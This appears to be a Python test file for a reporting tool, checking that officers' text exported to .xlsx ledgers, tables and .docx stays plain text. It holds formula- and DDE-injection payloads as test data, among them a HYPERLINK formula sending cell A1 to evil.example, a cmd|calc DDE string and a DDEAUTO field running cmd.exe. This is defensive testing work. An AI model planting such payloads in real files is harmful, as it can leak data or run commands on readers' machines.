"""Exports are inert (issue 16, rule 9): an officer's text that looks like a formula stays
text in the .xlsx (no cell of data type 'f' on reopening) and in the .docx (no field)."""
from __future__ import annotations

import io
import zipfile
from datetime import date

import openpyxl
from docx import Document

from reports.docx import write_docx
from reports.xlsx import LedgerRow, write_ledger, write_table

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1+1"]


def _ledger(texts: list[str]) -> bytes:
    rows = [LedgerRow(f"YH-20260603-{i:03d}", date(2026, 6, 3), text, text, "其他", "一般", text,
                      date(2026, 6, 6), "待整改", None, text, text, 0) for i, text in enumerate(texts, 1)]
    out = io.BytesIO()
    write_ledger(rows, HOSTILE[0], out)
    return out.getvalue()


def _cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def test_no_formula_cell_in_the_ledger():
    data = _ledger(HOSTILE)
    cells = _cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    # the words are kept exactly, as text
    values = {c.value for c in cells}
    assert set(HOSTILE) - {"\r=1+1"} <= values and any(v.endswith("=1+1") for v in values if isinstance(v, str))
    # and the sheet XML holds no <f> element at all
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)


def test_no_formula_cell_in_a_table():
    out = io.BytesIO()
    write_table(HOSTILE[0], [HOSTILE[1], "情况"], [(t, t) for t in HOSTILE], out)
    assert [c.coordinate for c in _cells(out.getvalue()) if c.data_type == "f"] == []


def test_docx_keeps_user_text_as_text():
    out = io.BytesIO()
    hostile = HOSTILE[0] + ' { DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }'
    write_docx(hostile, "一、情况\n" + hostile, out)
    doc = Document(io.BytesIO(out.getvalue()))
    assert any(hostile in p.text for p in doc.paragraphs)
    body = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("word/document.xml")
    assert b"DDEAUTO" in body and b"fldSimple" not in body
    assert body.count(b"instrText") == 0     # fields live in footers (page numbers) only
